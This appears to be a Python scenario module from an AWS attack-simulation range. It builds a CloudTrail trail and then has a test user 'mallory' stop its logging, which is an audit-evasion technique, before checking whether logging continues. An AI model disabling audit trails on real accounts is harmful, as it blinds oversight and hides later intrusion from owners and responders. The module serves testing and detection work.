"""Somebody stops the account's trail, so that what comes next leaves no trace."""

from __future__ import annotations

from typing import Any

from quell_range.attacks.stage import Made, Stage, allow, tried


def prepare(stage: Stage) -> Made:
    """A trail of all Regions with its bucket."""
    name = f"audit-{stage.mark}"
    stage.bucket(f"{name}-logs")
    trail = stage.client("cloudtrail")
    trail.create_trail(Name=name, S3BucketName=f"{name}-logs", IsMultiRegionTrail=True, EnableLogFileValidation=True)
    trail.start_logging(Name=name)
    return {"resource": name, "mallory": stage.user(f"mallory-{stage.mark}", allow("cloudtrail:*"))}


def attack(stage: Stage, made: Made) -> None:
    stage.aws("cloudtrail", "stop-logging", "--name", made["resource"], keys=made["mallory"])


def read(stage: Stage, made: Made) -> Any:
    trail, name = stage.client("cloudtrail"), made["resource"]
    selectors = trail.get_event_selectors(TrailName=name)
    return {
        "trail": trail.get_trail(Name=name)["Trail"],
        "logging": trail.get_trail_status(Name=name)["IsLogging"],
        "selectors": {kind: selectors[kind] for kind in selectors if kind != "ResponseMetadata"},
        "insights": tried(trail.get_insight_selectors, TrailName=name),
    }


def probe(stage: Stage, made: Made) -> str:
    """Whether anything is recorded."""
    return "recorded" if stage.client("cloudtrail").get_trail_status(Name=made["resource"])["IsLogging"] else "unseen"
